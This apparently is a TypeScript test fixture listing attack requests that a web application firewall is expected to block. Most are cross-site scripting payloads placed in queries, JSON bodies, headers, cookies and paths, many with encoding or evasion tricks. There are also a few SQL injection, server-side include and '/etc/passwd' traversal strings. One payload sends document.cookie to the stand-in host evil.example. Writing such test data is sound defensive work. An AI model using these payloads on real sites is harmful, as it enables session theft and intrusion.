import { each, inAgent, inCookie, inField, inForm, inHeader, inJson, inList, inName, inPatch, inPath, inQuery, inReferer, type Sent } from "../request";

/** Scripts for whoever sees the field later: 941. */
export const markup: Sent[] = [
  ...each("941", inQuery, [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(document.domain)", "<iframe src=javascript:alert(1)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">", "<body onload=alert(1)>", "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<style>@import'javascript:alert(1)'</style>", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "<embed src=\"//evil.example/x.swf\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=//evil.example/>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "＜script＞alert(1)＜/script＞", "<scr\u0000ipt>alert(1)</script>", "vbscript:msgbox(1)", "<video><source onerror=\"alert(1)\">",
    "%3Cscript%3Ealert(1)%3C/script%3E", "<ScRiPt sRc=//evil.example/x.js></sCrIpT>", "<link rel=stylesheet href=//evil.example/x.css>", "<applet code=x>",
    "<x onclick=alert(1)>нажмите</x>", "[].constructor.constructor('alert(1)')()", "<form action=javascript:alert(1)><button>",
  ]),
  ...each("941", inJson, [
    "<script>fetch('//evil.example/'+document.cookie)</script>", "<img src=1 onerror=alert(1)>", "<svg/onload=alert(1)>", "<a href=javascript:alert(1)>скидка</a>",
    "Заказ <script>alert('взлом')</script> срочно", "<iframe srcdoc='<script>alert(1)</script>'>", "<marquee onstart=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
  ]),
  ...each("941", inJson, [
    "data:image/svg+xml;base64,PHN2Zz4=", "data:text/html;base64,PHNjcmlwdD4=", "data:image/png;base64,iVBO\"><x data:text/html,a", "x data:image/png;base64,iVBORw0KGgo=", "data:image/png;base64,iVBO\ndata:text/html;base64,PHN2Zz4=",
  ]),
  ...each("941", inJson, [
    "(alert)(1)", "confirm.call(null,1)", "alert?.(document?.cookie)", "_c.constructor('alert(1)')()", "javascript:alert`1`", "java\nscript:alert(1)", "<a href=\"j&Tab;avascript&colon;alert(1)\">", "JavaScript: top.x=1", "javascript: name", "vbscript:x", "onload=alert(1) abcd==", "x onload=\"a\"",
  ]),
  ...each("941", inPath, ["/api/v1/orders/%3C!--%23exec%20cmd=%22ls%22%20--%3E", "/api/v1/%3C!--%23include%20virtual=%22/x%22--%3E", "/api/v1/%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"]),
  // In Base64.
  ...each("941", inQuery, ["<script>alert(1)</script>", "<svg/onload=alert(1)//", "\"onwheel=ead(111)"].map((text) => Buffer.from(text).toString("base64"))),
  ...each("942", inJson, ["1' OR '1'='1' -- a", "-1 union select password from auth_user"].map((text) => Buffer.from(text).toString("base64").replaceAll("=", ""))),
  ...each("930", inJson, ["../../../../etc/passwd"].map((text) => Buffer.from(text).toString("base64"))),
  ...each("941", inList, ["<script src=//evil.example></script>", "<svg><animate onbegin=alert(1)>"]),
  ...each("941", inPatch, ["<img src=x onerror=eval(atob('YQ=='))>"]),
  ...each("941", inForm, ["<script>alert(1)</script>", "<body onpageshow=alert(1)>"]),
  ...each("941", inField, ["<img src=x onerror=alert(1)>"]),
  ...each("941", inAgent, ["<script>alert(1)</script>"]),
  ...each("941", inHeader("X-Device-Name"), ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>"]),
  ...each("941", inReferer, ["<script>alert(1)</script>"]),
  ...each("941", inCookie, ["<script>alert(1)</script>"]),
  ...each("941", inName, ["<script>alert(1)</script>"]),
  // What is not let through with an editor's texts.
  ...each("941", inJson, [
    '<p onclick="alert(1)">', '<p style="x" onclick=alert(1)>', '" onclick=alert(1) x="', '<a href="javascript:alert(1)">', '<a href="/onclick=alert(1)//">', '<a title="" onclick=alert(1)">', '<p style="background:url(javascript:alert(1))">',
    '<p style="width:expression(alert(1))">', '<img src="http://example.com/do.php?a=b">', '<img src="x" onerror="alert(1)">', '<p class="a">&lt;script&gt;alert(1)</p>', '<p style="color:red">\\x3cimg src=x onerror=alert(1)></p>',
    "x onclick=alert(1)", "onclick=alert(1)", "style=behavior:url(x)", "src=javascript:alert(1)", "<style>@import url(//evil.example)", "javascript: x(1)", "JavaScript: f (alert(1))",
    "data:text/plain;base64,PHNjcmlwdD4=", "data:application/xhtml+xml;base64,PHNjcmlwdD4=", '<svg xmlns="http://www.w3.org/1999/xhtml">',
  ]),
];
